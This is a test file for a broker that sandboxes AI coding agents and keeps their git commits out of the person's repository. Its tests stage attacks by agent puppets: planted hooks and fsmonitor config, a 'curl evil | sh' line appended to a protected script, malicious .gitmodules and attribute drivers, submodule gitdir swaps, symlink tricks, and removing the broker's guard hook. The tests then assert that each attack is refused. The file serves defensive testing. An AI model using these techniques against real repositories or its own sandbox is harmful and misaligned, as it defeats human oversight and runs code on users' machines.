"""Agents never write the person's git directory; their commits come in through the broker.

* ``alice``, ``bob``: strict boxes -- each commits in a git directory of its own, bound over
  ``<repo>/.git``; the broker brings each commit in (``locks.bringin``);
* ``dave``: a Landlock-only box -- ``.git`` is read-only;
* ``carol``: ``sandbox = "off"`` -- the control: the person's ``.git`` is hers to write.

Each attack is spelled out in its test, with its control.  These run again as an ordinary
uid (``tests/broker/test_as_user.py``).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any, Iterator

import pytest

from agents.harness import GIT_IDENTITY, Puppet, Run
from broker.githook import HOOK
from broker.sandbox import machine as sandbox_machine

pytestmark = pytest.mark.uid_independent("the broker's git guard and the boxes' git grants: Landlock and mounts, the same for root (its capabilities dropped) and for uid 65534")

MACHINE = sandbox_machine.probe()
FILES = {
    "README.md": "scratch\n",
    "route/a.txt": "a\n",
    "route/b.txt": "b\n",
    "route/c.txt": "c\n",
    "content/f.txt": "f\n",
    "replay/a.txt": "a\n",
    "replay/b.txt": "b\n",
    "links/.keep": "",
}
ID = " ".join(GIT_IDENTITY)


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    if MACHINE.strongest != "strict":
        pytest.fail(f"no strict box on this machine ({MACHINE.user_namespaces_error}): an agent's own git directory needs one")
    root = tmp_path_factory.mktemp("gitbox")
    agents = [{"name": "alice", "may_spawn": 2}, {"name": "bob"}, {"name": "carol", "sandbox": "off"}, {"name": "dave", "sandbox": "landlock"}]
    run = Run(root, agents, files=FILES)
    run.start()
    try:
        yield {"run": run, "root": root}
    finally:
        run.close()


@pytest.fixture
def run(box: dict[str, Any]) -> Iterator[Run]:
    run: Run = box["run"]
    yield run
    run.person_git("add", "-A")
    run.person_git("commit", "-qm", "test cleanup")
    run.wait_followed("alice", "bob")
    for h in run.op("lock.list")["holdings"]:
        run.op("lock.force_release", resource=h["resource"], reason="test cleanup")


def sh(puppet: Puppet, script: str) -> subprocess.CompletedProcess[str]:
    return puppet.sh("sh", "-c", script)


def person_head(run: Run, what: str = "%H") -> str:
    return run.person_git("log", "-1", f"--format={what}").stdout.strip()


def journal(run: Run) -> list[dict[str, Any]]:
    lines = (run.state / "logs" / "run-1.jsonl").read_text().splitlines()
    return [json.loads(line) for line in lines if line.strip()]


# -- what each box may do to git -----------------------------------------------------------------


def test_a_strict_agent_writes_only_its_own_git_directory(run: Run) -> None:
    """The attack: plant a hook and a config the person's git would run.  In a strict box ``.git`` is
    the agent's own: what it writes there never reaches the person's."""
    alice, carol = run.puppet("alice"), run.puppet("carol")
    planted = sh(alice, "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/post-commit && printf '[core]\\n\\tfsmonitor = /bin/false\\n' >> .git/config")
    assert planted.returncode == 0, planted.stderr  # her own git directory: hers to write
    assert not (run.repo / ".git" / "hooks" / "post-commit").exists()
    assert "fsmonitor" not in (run.repo / ".git" / "config").read_text()
    # The person's objects are in sight, read-only; the directory itself cannot be moved aside.
    for script in ("touch .git/shared-objects/planted", "echo x >> .git/shared-objects/info/alternates", "mv .git .git-moved"):
        assert sh(alice, script).returncode != 0, script
    assert sh(alice, "git cat-file -e HEAD:README.md && git log --oneline -1").returncode == 0
    sh(alice, "git config --unset core.fsmonitor; rm -f .git/hooks/post-commit")
    # Control: unboxed, the same hook lands in the person's hooks directory.
    assert sh(carol, "printf '#!/bin/sh\\ntrue\\n' > .git/hooks/post-merge").returncode == 0
    assert (run.repo / ".git" / "hooks" / "post-merge").exists()
    (run.repo / ".git" / "hooks" / "post-merge").unlink()


def test_a_landlock_agent_reads_git_but_cannot_write_it(run: Run) -> None:
    """Landlock cannot make ``.git`` read-only inside a writable tree, so the tree's write grant is
    carved around it: git is read-only (status, diff, log work; commits do not), and nothing new
    can be made at the top of the tree."""
    dave, alice = run.puppet("dave"), run.puppet("alice")
    for script in ("git status --porcelain", "git log --oneline -1", "git diff", "echo more >> content/f.txt", "echo 'in place' >> README.md"):
        done = sh(dave, script)
        assert done.returncode == 0, (script, done.stderr)
    for script in ("echo x > .git/hooks/post-commit", "echo x >> .git/config", "mv .git .git-moved", "touch new-at-the-top.txt",
                   f"git add content/f.txt && git {ID} commit -qm dave",
                   # another name for a file of .git, made in the writable tree: a hard link, a symbolic one, a move in
                   "ln .git/config content/cfg && echo x >> content/cfg", "ln -s ../.git/config content/cfg-link && echo x >> content/cfg-link",
                   "cp content/f.txt content/g.txt && mv content/g.txt .git/hooks/pre-commit"):  # fmt: skip
        assert sh(dave, script).returncode != 0, script
    assert not (run.repo / "new-at-the-top.txt").exists()
    assert b"x" not in (run.repo / ".git" / "config").read_bytes().splitlines() and not (run.repo / ".git" / "hooks" / "pre-commit").exists()
    for leftover in ("content/cfg", "content/cfg-link", "content/g.txt"):
        (run.repo / leftover).unlink(missing_ok=True)
    # Control: the strict box may make new top-level entries.
    assert sh(alice, "touch new-at-the-top.txt && rm new-at-the-top.txt").returncode == 0


# -- bringing commits in -------------------------------------------------------------------------

ROUTES: dict[str, tuple[str, str]] = {
    # name: (the route, how to undo it after a refusal)
    "commit": (f"echo 1 >> route/a.txt && git add route/a.txt && git {ID} commit -qm 'route: commit'", "git reset -q"),
    "commit-tree + update-ref": (
        f"echo 2 >> route/b.txt && git add route/b.txt && C=$(echo 'route: update-ref' | git {ID} commit-tree $(git write-tree) -p HEAD)"
        " && git update-ref refs/heads/main $C",
        "git reset -q",
    ),
    "cherry-pick": (
        f"B=$(echo picked | git hash-object -w --stdin) && I=$(mktemp) && GIT_INDEX_FILE=$I git read-tree HEAD"
        f" && GIT_INDEX_FILE=$I git update-index --cacheinfo 100644,$B,route/c.txt"
        f" && C=$(echo 'route: cherry-pick' | git {ID} commit-tree $(GIT_INDEX_FILE=$I git write-tree) -p HEAD) && git {ID} cherry-pick $C",
        "git cherry-pick --abort; git reset -q --hard HEAD",
    ),
    "revert": (f"git {ID} revert --no-edit HEAD", "git revert --abort; git reset -q --hard HEAD"),
    "merge": (
        f"B=$(echo merged | git hash-object -w --stdin) && I=$(mktemp) && GIT_INDEX_FILE=$I git read-tree HEAD"
        f" && GIT_INDEX_FILE=$I git update-index --cacheinfo 100644,$B,route/b.txt"
        f" && S=$(echo side | git {ID} commit-tree $(GIT_INDEX_FILE=$I git write-tree) -p HEAD)"
        f" && echo 3 >> route/a.txt && git add route/a.txt && git {ID} commit -qm 'route: before merge' --no-verify"
        f" && git {ID} merge --no-ff -m 'route: merge' $S",
        "git merge --abort; git reset -q --hard HEAD",
    ),
    "am": (
        f"B=$(echo applied | git hash-object -w --stdin) && I=$(mktemp) && GIT_INDEX_FILE=$I git read-tree HEAD"
        f" && GIT_INDEX_FILE=$I git update-index --cacheinfo 100644,$B,route/c.txt"
        f" && C=$(echo 'route: am' | git {ID} commit-tree $(GIT_INDEX_FILE=$I git write-tree) -p HEAD)"
        f" && git format-patch -1 --stdout $C > /tmp/route.patch && git {ID} am -q /tmp/route.patch",
        "git am --abort; rm -rf .git/rebase-apply; git reset -q --hard HEAD",
    ),
    "rebase": (
        f"git update-ref refs/heads/topic HEAD~1 && git {ID} rebase -q main topic && git checkout -q main",
        "git rebase --abort; git checkout -q -f main",
    ),
}


def test_every_route_to_a_branch_is_guarded_and_lands_with_the_locks(run: Run) -> None:
    """commit, commit-tree + update-ref, cherry-pick, revert, merge, am, rebase: each moves a branch,
    and git's reference-transaction hook asks the broker first.  Without the git lock each is
    refused and the person's branch stays; with it each lands with the agent's author and message."""
    alice = run.puppet("alice")
    alice.call("lock.acquire", resources=["route/**"])
    for name, (route, undo) in ROUTES.items():
        if name == "rebase":
            continue  # it moves only the branch it made: first made with the lock below
        before = person_head(run)
        refused = sh(alice, route)
        assert refused.returncode != 0 and "commit refused" in refused.stdout + refused.stderr, (name, refused.stdout, refused.stderr)
        assert person_head(run) == before, name
        sh(alice, undo)
    alice.call("lock.acquire", resources=["git"])
    for name, (route, _undo) in ROUTES.items():
        done = sh(alice, route)
        assert done.returncode == 0, (name, done.stdout, done.stderr)
        if name != "rebase":
            expected = "route: cherry-pick" if name == "cherry-pick" else "route: am" if name == "am" else None
            subject = person_head(run, "%an|%s")
            assert subject.startswith("conclave-test|"), (name, subject)
            if expected:
                assert subject.endswith(expected), (name, subject)
            assert person_head(run) == sh(alice, "git rev-parse HEAD").stdout.strip(), name
    # The rebase moved `topic` up to main: brought in as a fast-forward.
    assert run.person_git("rev-parse", "topic").stdout == run.person_git("rev-parse", "main").stdout
    assert "route: merge" in run.person_git("log", "--format=%s", "-8").stdout
    assert run.person_git("status", "--porcelain").stdout == ""
    # A stash is a ref of its own (refs/stash): it stays in the agent's git directory.
    stashed = sh(alice, "echo 9 >> route/a.txt && git stash -q && git rev-parse -q --verify refs/stash")
    assert stashed.returncode == 0, stashed.stderr
    assert run.person_git("rev-parse", "-q", "--verify", "refs/stash").returncode != 0
    assert sh(alice, "git stash pop -q && git checkout -q -- route/a.txt").returncode == 0


def test_a_refusal_is_shown_in_the_run_and_names_what_is_missing(run: Run) -> None:
    bob = run.puppet("bob")
    (run.repo / "README.md").write_text("bob without locks\n")
    sh(bob, "git add README.md")
    refused = sh(bob, f"git {ID} commit -qm 'no locks'")
    assert refused.returncode != 0 and "README.md  (" in refused.stderr and "git  (not held by you" in refused.stderr
    notes = [n for n in journal(run) if n["kind"] == "git_refused" and n.get("principal") == bob.key]
    assert notes and "README.md" in notes[-1]["text"] and notes[-1].get("failed")
    events = run.op("memory.log", kind="git.refused")
    assert any(e["subject"] == "refs/heads/main" and bob.key in e["actor"] for e in events)


def test_commits_git_would_act_on_are_refused_whatever_the_locks(run: Run) -> None:
    """Each change below makes git run something, or look away, for whoever checks it out later:
    a gitlink, a .gitmodules, attributes naming drivers, a path named .git.  alice holds every lock."""
    alice = run.puppet("alice")
    alice.call("lock.acquire", resources=["content/**", ".gitmodules", "git"])
    head = sh(alice, "git rev-parse HEAD").stdout.strip()
    # The person's own configuration hides submodule changes from diffs: the broker's reading must not.
    run.person_git("config", "diff.ignoreSubmodules", "all")
    cases = {
        "gitlink": f"git update-index --add --cacheinfo 160000,{head},content/sub",
        # fsck's own check refuses an update command; any other submodule is refused by the broker.
        "gitmodulesUpdate": "printf '[submodule \"x\"]\\n\\tpath = content/x\\n\\turl = ./x\\n\\tupdate = !sh -c evil\\n' > .gitmodules && git add .gitmodules",
        ".gitmodules": "printf '[submodule \"x\"]\\n\\tpath = content/x\\n\\turl = ./x\\n' > .gitmodules && git add .gitmodules",
        "sets what git runs": "echo '*.txt filter=planted' > content/.gitattributes && git add content/.gitattributes",
        "-diff": "echo 'Makefile -diff' > content/.gitattributes && git add content/.gitattributes",
    }
    for why, stage in cases.items():
        before = person_head(run)
        done = sh(alice, f"{stage} && git {ID} commit -qm '{why}'")
        assert done.returncode != 0 and "refused" in done.stderr, (why, done.stderr)
        assert why in done.stderr, (why, done.stderr)
        assert person_head(run) == before
        sh(alice, "git reset -q; rm -f .gitmodules content/.gitattributes")
    # A path named .git (made with plumbing: git add would not): fsck's check in the strict copy refuses it.
    dot_git = sh(alice, f"B=$(echo x | git hash-object -w --stdin) && S=$(printf '100644 blob %s\\t.GIT\\n' $B | git mktree)"
                        f" && T=$(printf '040000 tree %s\\tcontent\\n' $S | git mktree)"
                        f" && git update-ref refs/heads/main $(echo dotgit | git {ID} commit-tree $T -p HEAD)")  # fmt: skip
    assert dot_git.returncode != 0 and ".git" in dot_git.stderr, dot_git.stderr
    run.person_git("config", "--unset", "diff.ignoreSubmodules")
    # Control: attributes that name no driver, in the same place, are brought in.
    fine = sh(alice, f"echo '*.txt text eol=lf' > content/.gitattributes && git add content/.gitattributes && git {ID} commit -qm 'plain attributes'")
    assert fine.returncode == 0, fine.stderr
    assert person_head(run, "%s") == "plain attributes"


def test_nested_repositories_and_index_flags_hold_every_commit_back(run: Run) -> None:
    """A repository made in the tree during the run (git would run its configuration from a
    gitlink, or when run inside it) is made inert within a second of the broker's sweep -- its .git
    renamed aside -- and a commit made while one sits in the tree is refused, naming it (the two
    race: either holds the commit back until the repository is inert).  Index marks that make git
    status look away (an edited file hidden) are refused -- and named -- until they are gone."""
    alice = run.puppet("alice")
    alice.call("lock.acquire", resources=["content/**", "git"])
    sh(alice, "git init -q content/nested")
    done = sh(alice, f"echo 1 >> content/f.txt && git add content/f.txt && git {ID} commit -qm 'with a nested repository about'")
    assert done.returncode == 0 or "content/nested/.git" in done.stderr, done.stderr
    run.wait_until(lambda: (run.repo / "content" / "nested" / ".git.conclave-quarantine").is_dir(), what="the nested repository made inert")
    assert not (run.repo / "content" / "nested" / ".git").exists()
    if done.returncode != 0:
        done = sh(alice, f"git {ID} commit -qm 'with a nested repository about'")
        assert done.returncode == 0, done.stderr
    sh(alice, "rm -rf content/nested")
    sh(alice, "echo hidden >> route/a.txt && git update-index --assume-unchanged route/a.txt")
    done = sh(alice, f"echo 2 >> content/f.txt && git add content/f.txt && git {ID} commit -qm 'with a flag set'")
    assert done.returncode != 0 and "route/a.txt (assume-unchanged)" in done.stderr, done.stderr
    # The person's git status never looked away: their index is not the agent's.
    assert " M route/a.txt" in run.person_git("status", "--porcelain").stdout.splitlines()
    sh(alice, "git update-index --no-assume-unchanged route/a.txt && git checkout -q -- route/a.txt")
    done = sh(alice, f"git {ID} commit -qm 'clean again'")
    assert done.returncode == 0, done.stderr
    assert person_head(run, "%s") == "clean again"


def test_the_person_moving_the_branch_is_replayed_onto_or_refused(run: Run) -> None:
    """alice's commits wait in her own git (her hook set aside), the person commits meanwhile, then
    alice commits again: her two commits are replayed onto the person's, path by path, authors and
    messages kept -- unless the person changed the same paths, then it is refused."""
    alice = run.puppet("alice")
    alice.call("lock.acquire", resources=["replay/a.txt", "git"])
    hook = ".git/hooks/reference-transaction"
    assert sh(alice, f"chmod -x {hook} && echo x >> replay/a.txt && git add replay/a.txt && git {ID} commit -qm 'first, kept back' && chmod +x {hook}").returncode == 0
    (run.repo / "replay" / "b.txt").write_text("the person's\n")
    run.person_git("add", "replay/b.txt")
    assert run.person_git("commit", "-qm", "the person's own").returncode == 0
    person = person_head(run)
    done = sh(alice, f"echo y >> replay/a.txt && git add replay/a.txt && git {ID} commit -qm 'second'")
    assert done.returncode == 0, done.stderr
    assert "replayed onto" in done.stderr
    log = run.person_git("log", "--format=%s|%an", "-3").stdout.splitlines()
    assert log == ["second|conclave-test", "first, kept back|conclave-test", "the person's own|conclave-test"], log
    assert run.person_git("rev-parse", "HEAD~2").stdout.strip() == person
    # alice's own branch settled onto the replayed commits; every git status is true.
    assert sh(alice, "git rev-parse HEAD").stdout.strip() == person_head(run)
    assert sh(alice, "git status --porcelain").stdout == "" and run.person_git("status", "--porcelain").stdout == ""
    # The refused side: kept back again, and the person changes the same path.
    assert sh(alice, f"chmod -x {hook} && echo z >> replay/a.txt && git add replay/a.txt && git {ID} commit -qm 'third' && chmod +x {hook}").returncode == 0
    (run.repo / "replay" / "a.txt").write_text("the person's a\n")
    run.person_git("add", "replay/a.txt")
    run.person_git("commit", "-qm", "the person's a")
    done = sh(alice, f"git {ID} commit -q --allow-empty -m 'fourth'")
    assert done.returncode != 0 and "changed the same paths" in done.stderr and "replay/a.txt" in done.stderr, done.stderr
    assert person_head(run, "%s") == "the person's a"
    sh(alice, f"git update-ref refs/heads/main $(git rev-parse HEAD~1) && git reset -q")  # her kept-back commit goes


def test_commits_an_agent_leaves_behind_are_kept_and_reported(run: Run) -> None:
    alice = run.puppet("alice")
    kid = run.spawn_puppet("alice", "kid")
    try:
        hook = ".git/hooks/reference-transaction"
        kept = sh(kid, f"rm {hook} && echo kid >> route/b.txt && git add route/b.txt && git {ID} commit -qm 'never brought in' && git rev-parse HEAD")
        assert kept.returncode == 0, kept.stderr
        commit = kept.stdout.strip().splitlines()[-1]
        session = kid.key.split(":")[1]
    finally:
        kid.exit(0)
        run.forget("alice/kid")
    note = run.wait_until(lambda: next((n for n in journal(run) if n["kind"] == "git_left" and n.get("principal") == f"alice/kid:{session}"), None),
                          what="the left commits to be reported")  # fmt: skip
    ref = f"refs/conclave/left/alice__kid/{session}/main"
    assert ref in note["text"] and commit[:12] in note["text"]
    assert run.person_git("rev-parse", ref).stdout.strip() == commit
    assert run.person_git("log", "-1", "--format=%s", ref).stdout.strip() == "never brought in"
    assert not (run.state / "gitdirs" / session).exists()
    left = [e for e in run.op("memory.log", kind="git.left") if e["subject"] == f"alice/kid:{session}"]
    assert left and left[0]["detail"]["refs"] == {ref: commit}
    assert person_head(run, "%s") != "never brought in"
    run.person_git("checkout", "-q", "--", "route/b.txt")
    del alice


def test_the_broker_never_writes_through_a_link_in_an_agents_git_directory(run: Run, box: dict[str, Any]) -> None:
    """alice replaces what the broker writes when it follows the person's branch -- her branch's
    ref, the refs directory, her index -- with links to a file and a directory outside her box.
    The person commits; the broker follows: the victims are untouched, and bob (the control)
    follows as ever."""
    alice = run.puppet("alice")
    victim, victim_dir = box["root"] / "victim.txt", box["root"] / "victim-dir"
    victim.write_text("the person's file\n")
    victim_dir.mkdir(exist_ok=True)
    for links in (f"ln -sf {victim} .git/index", f"rm -f .git/refs/heads/main && ln -s {victim} .git/refs/heads/main",
                  f"mv .git/refs/heads .git/refs/heads-kept && ln -s {victim_dir} .git/refs/heads"):  # fmt: skip
        assert sh(alice, links).returncode == 0, links
        (run.repo / "README.md").write_text(f"the person's edit for {links[:10]}\n")
        run.person_git("commit", "-qam", f"person: {links[:12]}")
        run.wait_followed("bob")
        assert victim.read_text() == "the person's file\n" and list(victim_dir.iterdir()) == [], links
    assert run.op("ping") is not None  # the broker lives on
    # alice mends her own git directory; from then on it follows again.
    mended = sh(alice, f"rm .git/refs/heads && mv .git/refs/heads-kept .git/refs/heads && rm -f .git/refs/heads/main"
                       f" && git update-ref refs/heads/main {person_head(run)} && git reset -q")  # fmt: skip
    assert mended.returncode == 0, mended.stderr


def person_env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GIT_", "CONCLAVE_"))}
    env.update({"GIT_AUTHOR_NAME": "p", "GIT_AUTHOR_EMAIL": "p@example.invalid", "GIT_COMMITTER_NAME": "p", "GIT_COMMITTER_EMAIL": "p@example.invalid"})
    return env


@pytest.fixture(scope="module")
def levels_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """One broker with an agent at each box level (named by it) on a repository the person set up
    before the run: a clean filter whose script is in the tree (a protected path), and two
    submodules -- ``lib/sub`` checked out, ``lib/empty`` named in the index only."""
    levels = [level for level in ("strict", "landlock") if MACHINE.offers(level) is None]
    assert levels, "this machine offers no box at all"
    root = tmp_path_factory.mktemp("levels")
    env = person_env()
    inner = root / "inner"
    subprocess.run(["git", "init", "-q", str(inner)], check=True, env=env)
    subprocess.run(["git", "-C", str(inner), "commit", "-q", "--allow-empty", "-m", "inner"], check=True, env=env)
    files = {"README.md": "x\n", "scripts/clean.sh": "#!/bin/sh\ncat\n", "scripts/notes.txt": "n\n", "scratch/.keep": "", "lib/.keep": ""}
    run = Run(root, [{"name": level, "sandbox": level} for level in levels], files=files)
    subprocess.run(["git", "-C", str(run.repo), "config", "filter.x.clean", "./scripts/clean.sh"], check=True)
    for args in (["-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner), "lib/sub"],
                 ["update-index", "--add", "--cacheinfo", f"160000,{person_head(run)},lib/empty"], ["commit", "-qm", "submodules"]):  # fmt: skip
        subprocess.run(["git", "-C", str(run.repo), *args], check=True, env=env, capture_output=True)
    (run.repo / "lib" / "empty").mkdir()
    try:  # closed even when it fails to start: no broker outlives the module
        run.start()
        yield {"run": run, "levels": levels, "root": root}
    finally:
        run.close()


def test_a_protected_path_is_read_only_in_a_box_and_its_directory_cannot_be_moved_aside(levels_run: dict[str, Any]) -> None:
    """The attack: rewrite the script the person's filter runs, or rename its directory and put a
    new one in its place.  Control: the rest of the directory is the agent's to write."""
    run: Run = levels_run["run"]
    for level in levels_run["levels"]:
        agent = run.puppet(level)
        for attack in ("echo 'curl evil | sh' >> scripts/clean.sh", "mv scripts scripts-aside", "rm scripts/clean.sh"):
            assert agent.sh("sh", "-c", attack).returncode != 0, (level, attack)
        assert agent.sh("sh", "-c", "echo more >> scripts/notes.txt").returncode == 0, level
    assert (run.repo / "scripts" / "clean.sh").read_text() == "#!/bin/sh\ncat\n"


def test_the_broker_never_writes_through_a_link_in_the_persons_hooks_directory(tmp_path: Path) -> None:
    """An unboxed agent (or an earlier one) leaves links where conclave writes its guard for the
    next run: the hooks directory itself, the hook's name, and -- during the run -- the hook it
    installed.  The victim (a file of the person's, a directory) is never written; a symlinked
    hooks directory stops the run with a reason.  Control: the ordinary directory gets the guard."""
    victim, victim_dir = tmp_path / "bashrc", tmp_path / "victim-dir"
    victim.write_text("the person's shell setup\n")
    victim_dir.mkdir()
    agents = [{"name": "carol", "sandbox": "off"}]
    # The hooks directory is a link: the run refuses to start, naming it.
    run = Run(tmp_path / "linked-dir", agents, files=FILES)
    hooks = run.repo / ".git" / "hooks"
    shutil.rmtree(hooks)
    hooks.symlink_to(victim_dir)
    with pytest.raises(RuntimeError) as refused:
        run.start()
    assert "symbolic link" in str(refused.value) and list(victim_dir.iterdir()) == []
    run.close()
    # The hook's own name is a link: it is moved aside (chained), never written through; put back at the end.
    run = Run(tmp_path / "linked-hook", agents, files=FILES)
    hook = run.repo / ".git" / "hooks" / HOOK
    hook.symlink_to(victim)
    with run:
        carol = run.puppet("carol")
        assert not hook.is_symlink() and b"conclave-guard" in hook.read_bytes()
        # During the run carol swaps conclave's hook for a link to the person's file.
        assert sh(carol, f"rm .git/hooks/{HOOK} && ln -s {victim} .git/hooks/{HOOK}").returncode == 0
    assert victim.read_text() == "the person's shell setup\n"
    assert hook.is_symlink()  # left as carol made it: not conclave's to remove
    # Control: an ordinary hooks directory gets the guard for the run and loses it after.
    run = Run(tmp_path / "ordinary", agents, files=FILES)
    with run:
        run.puppet("carol")
        assert b"conclave-guard" in (run.repo / ".git" / "hooks" / HOOK).read_bytes()
    assert not (run.repo / ".git" / "hooks" / HOOK).exists()


SUBMODULE_ATTACKS = (
    # Point the checked-out submodule's .git file at a repository of the agent's.
    'printf "gitdir: %s\\n" "$PWD/scratch/evil.git" > lib/sub/.git',
    # Or swap the submodule's directory for one of the agent's.
    'mv lib/sub scratch/sub-aside && mkdir lib/sub && printf "gitdir: %s\\n" "$PWD/scratch/evil.git" > lib/sub/.git',
    'rm lib/sub/.git && printf "gitdir: %s\\n" "$PWD/scratch/evil.git" > lib/sub/.git',
    # Or put a repository into the empty directory of a submodule not checked out.
    'printf "gitdir: %s\\n" "$PWD/scratch/evil.git" > lib/empty/.git',
)


def test_a_submodules_git_cannot_be_swapped_for_an_agents_repository(levels_run: dict[str, Any]) -> None:
    """The attack: the person's ``git status`` runs git inside every submodule the index names,
    with that repository's configuration.  An agent makes a repository of its own whose
    ``core.fsmonitor`` is its program and points a submodule's ``.git`` at it (or swaps the
    directory, or fills an empty submodule directory).  In every box each step is refused and
    the person's ``git status`` runs nothing.  Control: the same plant made with no box in the
    way runs the program in the person's ``git status``."""
    run: Run = levels_run["run"]
    env = person_env()
    marker = levels_run["root"] / "ran"
    plant = (
        f'git init -q --bare scratch/evil.git && printf "#!/bin/sh\\necho ran >> {marker}\\n" > scratch/evil.sh && chmod +x scratch/evil.sh'
        ' && printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = %s\\n" "$PWD/scratch/evil.sh" > scratch/evil.git/config'
    )

    def person_status() -> None:
        subprocess.run(["git", "-C", str(run.repo), "status", "--porcelain"], capture_output=True, env=env, timeout=60)

    for level in levels_run["levels"]:
        agent = run.puppet(level)
        made = agent.sh("sh", "-c", f"rm -rf scratch/evil.git && {plant}")
        assert made.returncode == 0, (level, made.stderr)  # the agent's own repository, in the tree: allowed
        for attack in SUBMODULE_ATTACKS:
            assert agent.sh("sh", "-c", attack).returncode != 0, (level, attack)
        # The submodule's own git directory is the person's: read-only (strict: bound into the agent's own).
        assert agent.sh("sh", "-c", "echo '[core]' >> .git/modules/lib/sub/config").returncode != 0, level
        looked = agent.sh("git", "status", "--porcelain")  # and the agent's git still looks inside it
        assert looked.returncode == 0, (level, looked.stderr)
        person_status()
        assert not marker.exists(), f"{level}: the person's git status ran the agent's program"
    assert (run.repo / "lib" / "sub" / ".git").read_text() == "gitdir: ../../.git/modules/lib/sub\n"
    # Control: the same plant, no box in the way: the person's git status runs it.
    subprocess.run(["sh", "-c", f"{plant} && {SUBMODULE_ATTACKS[0]}"], cwd=run.repo, check=True, env=env)
    try:
        person_status()
        assert marker.exists(), "the control plant never ran"
    finally:  # the person undoes their own plant: the broker still runs on this repository
        (run.repo / "lib" / "sub" / ".git").write_text("gitdir: ../../.git/modules/lib/sub\n")
        shutil.rmtree(run.repo / "scratch" / "evil.git", ignore_errors=True)
